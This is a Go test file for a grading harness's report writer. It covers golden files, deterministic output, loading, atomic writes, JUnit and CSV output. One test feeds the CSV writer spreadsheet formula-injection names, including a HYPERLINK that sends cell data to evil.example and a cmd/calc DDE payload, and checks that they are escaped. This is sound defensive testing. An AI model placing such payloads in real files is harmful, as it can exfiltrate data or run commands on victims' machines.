package report

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"flag"
	"harnesslab/grader/results"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/ from the current output")

// writeDir writes every report of results into a new folder, as labrun
// does: each submission, then the run, and returns the folder.
func writeDir(t *testing.T, all []results.Result, opt Options) string {
	t.Helper()
	dir := t.TempDir()
	for _, r := range all {
		if err := WriteSubmission(dir, r, opt); err != nil {
			t.Fatal(err)
		}
	}
	if err := WriteRun(dir, all, opt); err != nil {
		t.Fatal(err)
	}
	return dir
}

// readTree reads every file under dir, by slash-separated path.
func readTree(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	files := map[string][]byte{}
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, path)
		data, err := os.ReadFile(path)
		files[filepath.ToSlash(rel)] = data
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// golden compares got with the golden file testdata/name, or rewrites it
// with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", filepath.FromSlash(name))
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (run go test -update and review the diff)\n got:\n%s\nwant:\n%s", name, got, want)
	}
}

// TestGolden checks every file of a run's folder, and the summary table,
// against golden files made from fixtures that cover each kind of outcome.
func TestGolden(t *testing.T) {
	dir := writeDir(t, fixtures(), Options{KitVersion: "0.1.0"})
	files := readTree(t, dir)
	want := []string{
		"alice/result.json", "alice/results.json", "bob/result.json", "bob/results.json",
		"carol/result.json", "carol/results.json", "dave/result.json", "dave/results.json",
		"grades.csv", "junit.xml", "report.json",
	}
	if got := slices.Sorted(maps.Keys(files)); !slices.Equal(got, want) {
		t.Errorf("files written:\n got %q\nwant %q", got, want)
	}
	for _, name := range want {
		golden(t, "golden/"+name, files[name])
	}
	var summary bytes.Buffer
	if err := WriteSummary(&summary, fixtures()); err != nil {
		t.Fatal(err)
	}
	golden(t, "golden/summary.txt", summary.Bytes())
}

// TestDeterministic: grading the same submissions twice, with other timings
// and in another order, gives identical bytes once durations are zeroed.
func TestDeterministic(t *testing.T) {
	opt := Options{KitVersion: "0.1.0", ZeroDurations: true}
	first := readTree(t, writeDir(t, fixtures(), opt))

	again := fixtures()
	slices.Reverse(again)
	for i := range again {
		again[i].Duration += 777 * time.Millisecond
		for j := range again[i].Checks {
			again[i].Checks[j].Duration += time.Second
		}
	}
	second := readTree(t, writeDir(t, again, opt))

	if !reflect.DeepEqual(slices.Sorted(maps.Keys(first)), slices.Sorted(maps.Keys(second))) {
		t.Fatalf("the two runs wrote different files: %q and %q", slices.Sorted(maps.Keys(first)), slices.Sorted(maps.Keys(second)))
	}
	for name, data := range first {
		if !bytes.Equal(data, second[name]) {
			t.Errorf("%s differs between two runs of the same submissions:\n%s\n---\n%s", name, data, second[name])
		}
	}
}

// TestLoadRoundTrip: Load gives back exactly the results written, sorted
// by name, and ignores folders that hold no result.
func TestLoadRoundTrip(t *testing.T) {
	dir := writeDir(t, fixtures(), Options{})
	if err := os.Mkdir(filepath.Join(dir, "unfinished"), 0o755); err != nil {
		t.Fatal(err)
	}
	got, err := Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	want := sortedByName(fixtures())
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Load(dir) = %+v\nwant %+v", got, want)
	}
}

// TestLoad covers the folders Load reads and the ones it refuses.
func TestLoad(t *testing.T) {
	t.Run("missing folder holds no results", func(t *testing.T) {
		got, err := Load(filepath.Join(t.TempDir(), "nothing"))
		if err != nil || len(got) != 0 {
			t.Errorf("Load(missing) = %v, %v; want no results, no error", got, err)
		}
	})
	t.Run("result in the wrong folder is refused", func(t *testing.T) {
		dir := writeDir(t, fixtures()[:1], Options{})
		if err := os.Rename(filepath.Join(dir, "carol"), filepath.Join(dir, "mallory")); err != nil {
			t.Fatal(err)
		}
		_, err := Load(dir)
		if err == nil || !strings.Contains(err.Error(), "load ") || !strings.Contains(err.Error(), `"carol"`) {
			t.Errorf("Load(dir) error = %v; want one naming the file and the submission", err)
		}
	})
	t.Run("corrupt result is refused", func(t *testing.T) {
		dir := writeDir(t, fixtures()[:1], Options{})
		if err := os.WriteFile(filepath.Join(dir, "carol", ResultFile), []byte("{"), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := Load(dir); err == nil {
			t.Error("Load(dir) with a truncated result.json gave no error")
		}
	})
}

// TestAtomicLeavesNoTemporaries: after a run only the reports remain, and a
// failed write leaves neither a report nor a temporary file.
func TestAtomicLeavesNoTemporaries(t *testing.T) {
	dir := writeDir(t, fixtures(), Options{})
	for name := range readTree(t, dir) {
		if strings.Contains(name, ".tmp-") {
			t.Errorf("temporary file left behind: %s", name)
		}
	}
	// A folder in the way: the rename fails, and the error names the file.
	blocked := t.TempDir()
	if err := os.Mkdir(filepath.Join(blocked, GradesFile), 0o755); err != nil {
		t.Fatal(err)
	}
	err := WriteRun(blocked, fixtures(), Options{})
	if err == nil || !strings.Contains(err.Error(), "write "+filepath.Join(blocked, GradesFile)) {
		t.Errorf("WriteRun with a folder named grades.csv: error = %v; want one naming the file", err)
	}
	entries, _ := os.ReadDir(blocked)
	if len(entries) != 1 {
		t.Errorf("failed write left %v", entries)
	}
}

// TestCSVHostileName: a submission named like a formula, or holding commas,
// quotes and newlines, comes back as the same text, marked as text.
func TestCSVHostileName(t *testing.T) {
	names := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"grades")`: `'=HYPERLINK("http://evil.example/?"&A1,"grades")`,
		"+1+cmd|' /C calc'!A0":                            "'+1+cmd|' /C calc'!A0",
		"-2+3":                                            "'-2+3",
		"@SUM(A1:A9)":                                     "'@SUM(A1:A9)",
		"\tx":                                             `\tx`,
		"comma, \"quote\"\nnewline":                       `comma, \"quote\"\nnewline`,
		"plain":                                           "plain",
	}
	var all []results.Result
	for name := range names {
		all = append(all, results.Result{Name: name, Lesson: "02", Status: results.StatusEmpty, Score: -1, MaxScore: 6})
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, subsOf(all)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("grades.csv does not parse back: %v\n%s", err, buf.Bytes())
	}
	if len(rows) != len(names)+1 {
		t.Fatalf("grades.csv has %d rows, want %d", len(rows), len(names)+1)
	}
	for _, row := range rows[1:] {
		found := false
		for name, want := range names {
			if row[0] == want {
				found = true
				delete(names, name)
			}
		}
		if !found {
			t.Errorf("unexpected submission cell %q", row[0])
		}
		if row[1] != "-1" {
			t.Errorf("score cell %q: a negative score must stay a number, -1", row[1])
		}
	}
}

// TestJUnitParses: junit.xml parses back with encoding/xml, with the counts
// dashboards show and the compiler's message intact apart from the
// characters XML cannot carry.
func TestJUnitParses(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteJUnit(&buf, subsOf(fixtures()), Options{}); err != nil {
		t.Fatal(err)
	}
	var doc junitSuites
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("junit.xml does not parse: %v\n%s", err, buf.Bytes())
	}
	got := map[string][3]int{}
	for _, s := range doc.Suites {
		got[s.Name] = [3]int{s.Tests, s.Failures, s.Errors}
	}
	want := map[string][3]int{"alice": {4, 0, 0}, "bob": {4, 3, 0}, "carol": {4, 0, 4}, "dave": {1, 0, 1}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("suites (tests, failures, errors) = %v, want %v", got, want)
	}
	if doc.Tests != 13 || doc.Failures != 3 || doc.Errors != 5 {
		t.Errorf("testsuites counts = %d, %d, %d; want 13, 3, 5", doc.Tests, doc.Failures, doc.Errors)
	}
	var carol junitSuite
	for _, s := range doc.Suites {
		if s.Name == "carol" {
			carol = s
		}
	}
	e := carol.Cases[0].Error
	if e == nil {
		t.Fatal("carol's first testcase has no error element")
	}
	wantText := strings.NewReplacer("\x1b", "\uFFFD", "\x00", "\uFFFD", "\r\n", "\n").Replace(compilerMessage)
	if e.Text != wantText {
		t.Errorf("error body = %q\nwant %q", e.Text, wantText)
	}
	if e.Message != "agent.go:14:9: undefined: strings.Cutt" || e.Type != "nocompile" {
		t.Errorf("error message, type = %q, %q", e.Message, e.Type)
	}
	if got := carol.Cases[0].Classname; got != "lesson02.carol" {
		t.Errorf("classname = %q, want lesson02.carol", got)
	}
}

// TestCleanText covers the characters replaced and those kept.
func TestCleanText(t *testing.T) {
	tests := []struct{ in, want, why string }{
		{"plain\ttext\n", "plain\ttext\n", "tabs and newlines are kept"},
		{"a\r\nb\rc", "a\nb\nc", "line endings become newlines"},
		{"\x00\x01\x1b[0m\x7f", "\uFFFD\uFFFD\uFFFD[0m\x7f", "C0 controls are not XML; DEL is"},
		{"bad \xff utf-8", "bad \uFFFD utf-8", "invalid UTF-8 is replaced"},
		{"\uFFFE\uFFFF", "\uFFFD\uFFFD", "noncharacters XML excludes"},
		{"<&>\"'", "<&>\"'", "markup characters are the encoder's job"},
	}
	for _, tt := range tests {
		if got := cleanText(tt.in); got != tt.want {
			t.Errorf("cleanText(%q) = %q, want %q (%s)", tt.in, got, tt.want, tt.why)
		}
	}
}

// TestRunLesson: reports refuse to mix lessons.
func TestRunLesson(t *testing.T) {
	mixed := append(fixtures(), results.Result{Name: "erin", Lesson: "03", Status: results.StatusEmpty})
	if err := WriteReport(&bytes.Buffer{}, subsOf(mixed), Options{}); err == nil || !strings.Contains(err.Error(), "write report") {
		t.Errorf("WriteReport with lessons 02 and 03: error = %v; want one saying so", err)
	}
	if err := WriteJUnit(&bytes.Buffer{}, subsOf(fixtures()), Options{Lesson: "03"}); err == nil {
		t.Error("WriteJUnit of lesson 02 results as lesson 03 gave no error")
	}
}

// TestGradescopeSummary: the text above the tests counts only the checks
// students can see.
func TestGradescopeSummary(t *testing.T) {
	hidden := func(c results.CheckResult) results.CheckResult { c.Hidden = true; return c }
	tests := []struct {
		why    string
		checks []results.CheckResult
		want   string
	}{
		{"all visible, all passed", []results.CheckResult{pass(checkOrder, 0), pass(checkPaired, 0)}, "All 2 checks passed."},
		{"a visible failure", []results.CheckResult{pass(checkOrder, 0), fail(checkPaired, "failed", "no", 0)}, "1 of 2 checks passed."},
		{"a hidden failure is not told", []results.CheckResult{pass(checkOrder, 0), fail(checkUnknown, "failed", "no", 0)}, "The check passed. 1 more check is hidden from students."},
		{"one visible, failed", []results.CheckResult{fail(checkOrder, "failed", "no", 0)}, "0 of 1 check passed."},
		{"every check hidden", []results.CheckResult{hidden(pass(checkOrder, 0)), fail(checkUnknown, "failed", "no", 0)}, "The checks of this lesson are hidden from students."},
	}
	for _, tt := range tests {
		r := results.Result{Name: "x", Lesson: "02", Status: results.StatusFailed, Checks: tt.checks}
		if got := gsSummary(r); got != tt.want {
			t.Errorf("%s: gsSummary = %q, want %q", tt.why, got, tt.want)
		}
	}
}
